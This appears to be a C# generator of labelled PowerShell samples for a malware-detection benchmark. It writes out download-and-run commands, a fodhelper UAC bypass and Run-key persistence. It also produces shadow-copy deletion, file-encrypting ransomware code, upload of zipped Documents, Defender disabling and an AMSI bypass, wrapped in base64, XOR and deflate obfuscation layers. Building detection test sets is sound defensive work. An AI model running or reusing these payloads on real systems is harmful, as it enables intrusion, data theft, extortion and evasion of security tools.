using System.Globalization;
using System.IO.Compression;
using System.Text;
using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Scripts;

/// <summary>Writes PowerShell for an aim, and hides it: texts taken apart, names in backticks and mixed case, layers that are called.</summary>
internal sealed class PowerShellCode(Random random)
{
    public string Hostile(ScriptAim aim)
    {
        var code = Plain(aim);
        for (var layers = random.Next(0, 3); layers > 0; layers--)
            code = Layer(code);
        return random.Chance(0.4) ? $"# {random.Word()} {random.Word()}\n{Noise()}\n{code}" : $"{code}\n{Noise()}";
    }

    public string Harmless()
    {
        var (a, b) = (Variable(), random.Word());
        return random.Pick((string[])
        [
            $"{a} = Get-Service | Where-Object {{ $_.Status -eq 'Running' }}\n{a} | Export-Csv C:\\Reports\\{b}.csv -NoTypeInformation\n",
            $"foreach ({a} in 'srv{random.Next(9)}','srv{random.Next(9)}') {{ Get-CimInstance Win32_LogicalDisk -ComputerName {a} | Select-Object DeviceID, FreeSpace }}\n",
            $"Get-ChildItem C:\\Logs -Filter *.log | Where-Object {{ $_.LastWriteTime -lt (Get-Date).AddDays(-{random.Next(5, 90)}) }} | Remove-Item\n",
            $"dotnet build -c Release\nif ($LASTEXITCODE -ne 0) {{ throw '{b}' }}\nCopy-Item .\\out\\* \\\\build\\{b} -Recurse\n",
        ]);
    }

    private string Plain(ScriptAim aim)
    {
        var (a, file) = (Variable(), Variable());
        var path = $"\"$env:{random.Pick(["TEMP", "APPDATA", "LOCALAPPDATA", "PUBLIC"])}\\{random.Word()}.{random.Pick(["exe", "scr", "com"])}\"";
        var address = Text(ScriptFiles.Address(random, ".exe"));
        if (aim == ScriptAim.Download)
            return random.Next(4) switch
            {
                0 => $"{file} = {path}; ({Call("New-Object")} {Text("Net.WebClient")}).{Method("DownloadFile")}({address}, {file}); {Call("Start-Process")} {file}",
                1 => $"{file} = {path}\n{Call("Invoke-WebRequest")} -Uri ({address}) -OutFile {file}\n& {file}",
                2 => $"{Call("Invoke-Expression")} (({Call("New-Object")} {Text("System.Net.WebClient")}).{Method("DownloadString")}({address}))",
                _ => $"{a} = {Call("Invoke-RestMethod")} ({address}); {a} | {random.Pick(["iex", "IEX", "i`ex"])}",
            };
        if (aim == ScriptAim.Drop)
            return $"{file} = {path}\n{a} = [Convert]::FromBase64String({Text(Convert.ToBase64String([.. "MZ\u0090\0"u8.ToArray(), .. random.Bytes(60)]))})\n[IO.File]::WriteAllBytes({file}, {a})\n{Call("Start-Process")} {file}";
        if (aim == ScriptAim.Persist)
            return random.Chance(0.5)
                ? $"{Call("New-ItemProperty")} -Path ({Text("HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")}) -Name {random.Word()} -Value {path} -Force"
                : $"{a} = New-ScheduledTaskAction -Execute ({Text("wscript.exe")}) -Argument {path}\n{Call("Register-ScheduledTask")} -TaskName {random.Word()} -Action {a}";
        if (aim == ScriptAim.Elevate)
            return $"{a} = {Text("HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command")}\n{Call("New-Item")} {a} -Force\n{Call("Set-ItemProperty")} -Path {a} -Name '(default)' -Value {path}\nStart-Process ({Text("fodhelper.exe")})";
        if (aim == ScriptAim.Ransom)
            return Ransom(a, file);
        if (aim == ScriptAim.Exfiltrate)
            return $"{file} = \"$env:TEMP\\{random.Word()}.zip\"\n{Call("Compress-Archive")} -Path $env:USERPROFILE\\Documents -DestinationPath {file}\n({Call("New-Object")} {Text("Net.WebClient")}).{Method("UploadFile")}({Text(ScriptFiles.Address(random))}, {file})";
        return random.Next(3) switch
        {
            0 => $"{Call("Add-MpPreference")} -ExclusionPath ({Text("C:\\")})",
            1 => $"{Call("Set-MpPreference")} -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
            _ => $"{a} = [Ref].Assembly.GetType({Text("System.Management.Automation.AmsiUtils")})\n{a}.GetField({Text("amsiInitFailed")},'NonPublic,Static').SetValue($null,$true)",
        };
    }

    private string Ransom(string a, string file) => random.Next(3) switch
    {
        0 => $"{Call("Get-WmiObject")} ({Text("Win32_ShadowCopy")}) | ForEach-Object {{ $_.Delete() }}",
        1 => $"& ({Text("vssadmin")}) delete shadows /all /quiet",
        _ => $"{a} = [Security.Cryptography.Aes]::Create()\n{a}.GenerateKey()\n{file} = {a}.CreateEncryptor()\nGet-ChildItem $env:USERPROFILE -Recurse -Include *.docx,*.xlsx,*.jpg | ForEach-Object {{\n$b = [IO.File]::ReadAllBytes($_.FullName)\n[IO.File]::WriteAllBytes($_.FullName, {file}.TransformFinalBlock($b, 0, $b.Length))\nRename-Item $_.FullName ($_.FullName + '.{random.Word(3, 6)}')\n}}",
    };

    private string Layer(string code) => random.Next(4) switch
    {
        0 => $"{Call("Invoke-Expression")} ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{Convert.ToBase64String(Encoding.UTF8.GetBytes(code))}')))",
        1 => $"powershell {random.Pick(["-NoP -W Hidden", "-ep bypass -nop", "-NonI"])} {random.Pick(["-e", "-enc", "-EncodedCommand", "/ec"])} {Convert.ToBase64String(Encoding.Unicode.GetBytes(code))}",
        2 => Packed(code),
        _ => Xored(code),
    };

    private string Packed(string code)
    {
        using var target = new MemoryStream();
        using (var stream = new DeflateStream(target, CompressionMode.Compress, leaveOpen: true))
            stream.Write(Encoding.UTF8.GetBytes(code));
        var a = Variable();
        return $"{a} = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{Convert.ToBase64String(target.ToArray())}'))\n{Call("Invoke-Expression")} (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream({a}, [IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()";
    }

    private string Xored(string code)
    {
        var key = random.Next(1, 255);
        var (a, b) = (Variable(), Variable());
        return $"{a} = {string.Join(',', Encoding.UTF8.GetBytes(code).Select(octet => octet ^ key))}\n{b} = -join ({a} | ForEach-Object {{ [char]($_ -bxor {key.ToString(CultureInfo.InvariantCulture)}) }})\n{Call("Invoke-Expression")} {b}";
    }

    // A text in parentheses, taken apart in one of many ways.
    private string Text(string text)
    {
        switch (random.Next(7))
        {
            case 0:
                var cut = random.Next(1, text.Length);
                return $"('{text[..cut]}'+'{text[cut..]}')";
            case 1:
                var (x, y) = (random.Next(1, text.Length / 2 + 1), 0);
                y = random.Next(x, text.Length);
                return $"('{{2}}{{0}}{{1}}' -f '{text[x..y]}','{text[y..]}','{text[..x]}')";
            case 2:
                return $"(-join ('{Reversed(text)}'[{text.Length - 1}..0]))";
            case 3:
                return $"(-join [char[]]({string.Join(',', text.Select(c => (int)c))}))";
            case 4:
                var mark = random.Pick(["~~", "##", "@!"]);
                return $"('{string.Concat(text.Select((c, index) => index > 0 && random.Chance(0.3) ? mark + c : c.ToString()))}'.Replace('{mark}',''))";
            case 5:
                return $"([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{Convert.ToBase64String(Encoding.ASCII.GetBytes(text))}')))";
            default:
                return $"'{text}'";
        }
    }

    private string Call(string command) => random.Next(4) switch
    {
        0 => $"&('{command[..4]}'+'{command[4..]}')",
        1 => string.Concat(command.Select((c, index) => index > 1 && c is not ('-' or 'a' or 'b' or 'e' or 'f' or 'n' or 'r' or 't' or 'u' or 'v' or '0') && random.Chance(0.3) ? $"`{c}" : c.ToString())),
        2 => Mixed(command),
        _ => command,
    };

    private string Method(string name) => random.Chance(0.5) ? Mixed(name) : name;

    private string Mixed(string text) => string.Concat(text.Select(c => random.Chance(0.5) ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c)));

    private string Variable() => $"${random.Word()}{random.Next(99)}";

    private string Noise() => $"{Variable()} = {random.Next(9_999)} + {random.Next(99)}";

    private static string Reversed(string text)
    {
        var letters = text.ToCharArray();
        Array.Reverse(letters);
        return new string(letters);
    }
}
